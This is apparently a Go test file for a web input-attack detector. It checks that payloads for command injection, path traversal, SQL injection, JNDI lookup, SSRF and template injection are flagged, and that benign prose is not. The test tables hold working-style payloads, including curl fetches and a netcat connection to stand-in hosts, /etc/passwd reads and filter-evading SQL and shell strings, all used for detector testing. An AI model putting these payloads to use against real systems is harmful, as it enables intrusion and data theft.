package detect

import "testing"

func TestConfidence(t *testing.T) {
	tests := []struct {
		det  string
		give string
		want Confidence
	}{
		{"cmdi", "what's the difference between chattr and chmod? man chattr > 1; man chmod > 2; diff -u 1 2 | less", Low},
		{"cmdi", "; cat /etc/passwd", High},
		{"cmdi", "hello; whoami", High},
		{"cmdi", "please look at this for me $(curl http://evil.example/x.sh) thanks a lot my friend", High},
		{"cmdi", "I need some help with my order please; cat /etc/passwd and thanks so much for all of it", High},
		{"cmdi", "I need some help with my order please | curl http://x.example/a.sh and thanks so much", High},
		{"cmdi", "I need some help with my order please; nc 10.0.0.1 4444 and thanks so much for it", High},
		{"traversal", "the build failed with -include ../../debian/el33t.h as the header name, which is strange", Low},
		{"traversal", "../../../etc/passwd", High},
		{"traversal", "please open the file ../../../../etc/passwd for me and tell me what is in there", High},
		{"sqli", "1' OR '1'='1", High},
		{"sqli", "-1 UNION SELECT username, password FROM users--", High},
	}
	sc := NewScratch()
	for _, tt := range tests {
		d, _ := Builtin(tt.det)
		sc.Reset(tt.give)
		f, ok := d.Detect(sc, Input{Value: tt.give, Source: "body"})
		if !ok {
			t.Errorf("%s(%q) missed", tt.det, tt.give)
			continue
		}
		if f.Confidence != tt.want {
			t.Errorf("%s(%q) confidence %v (%s), want %v", tt.det, tt.give, f.Confidence, f.Reason, tt.want)
		}
	}
}

func TestProseLike(t *testing.T) {
	tests := []struct {
		give string
		want bool
	}{
		{"The quick brown fox jumps over the lazy dog, again and again.", true},
		{"Привет, как дела? Сегодня хорошая погода, пойдём гулять в парк вечером.", true},
		{"1;${PATH:0:1}etc${PATH:0:1}passwd | nc x.example 80 && echo ok; id", false},
		{"; curl https://crowdshield.com/.testing/rce_vuln.txt", false},
		{"short text", false},
	}
	for _, tt := range tests {
		if got := proseLike(tt.give); got != tt.want {
			t.Errorf("proseLike(%q) = %v, want %v", tt.give, got, tt.want)
		}
	}
}

func TestGrammarRecall(t *testing.T) {
	tests := []struct{ det, give string }{
		{"cmdi", "; Get-ChildItem C:\\"},
		{"cmdi", "& start calc"},
		{"cmdi", "| %COMSPEC% /c dir"},
		{"cmdi", "; [Diagnostics.Process]::Start('cmd','/c whoami')"},
		{"cmdi", "; $env:USERNAME"},
		{"cmdi", ";/???/c?t /e??/p??s??"},
		{"cmdi", "| /bin/c[a]t /etc/passw[d]"},
		{"cmdi", "; echo x>/tmp/a"},
		{"cmdi", ";${PATH:0:1}etc${PATH:0:1}passwd"},
		{"sqli", "1\u2019\u00a0OR\u00a01=1--"},
		{"sqli", "admin'--"},
		{"sqli", "admin'#"},
		{"sqli", "' OR data->>'role'='admin'--"},
		{"sqli", "1 OR jsonb_path_exists(data,'$.a')--"},
		{"sqli", "1) /*!50000UNION*/ /*!50000SELECT*/ 1,2--"},
		{"jndi", "${jnd${upper:\u0131}:ldap://x.example/a}"},
		{"ssrf", "http://[2002:7f00:1::]/"},
		{"ssrf", "http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/"},
		{"ssrf", "http://printer.local/"},
		{"ssrf", "http://router.local./admin"},
		{"ssti", "{{ .Config.DBPassword }}"},
		{"ssti", "{{ index .Secrets 0 }}"},
		{"ssti", "{{.}}"},
	}
	sc := NewScratch()
	for _, tt := range tests {
		d, _ := Builtin(tt.det)
		sc.Reset(tt.give)
		f, ok := d.Detect(sc, Input{Value: tt.give, Source: "query"})
		if !ok || f.Confidence != High {
			t.Errorf("%s(%q) = %v %v, want a high-confidence hit", tt.det, tt.give, ok, f.Confidence)
		}
	}
	benign := []struct{ det, give string }{
		{"cmdi", "Use Get-ChildItem to list files, then pipe to Sort-Object by name and length"},
		{"sqli", "\"A dirty mind is a joy forever.\" -- Randy Kunkee"},
		{"sqli", "printk(\"CPU0 on fire\\n\");"},
		{"ssti", "Hello {{name}}, your order {{order_id}} has shipped"},
		{"ssrf", "my dev server runs at http://localhost:3000 so please check it there when you can"},
	}
	for _, tt := range benign {
		d, _ := Builtin(tt.det)
		sc.Reset(tt.give)
		if f, ok := d.Detect(sc, Input{Value: tt.give, Source: "body"}); ok && f.Confidence == High {
			t.Errorf("%s(%q) = high-confidence %s, want none", tt.det, tt.give, f.Reason)
		}
	}
}
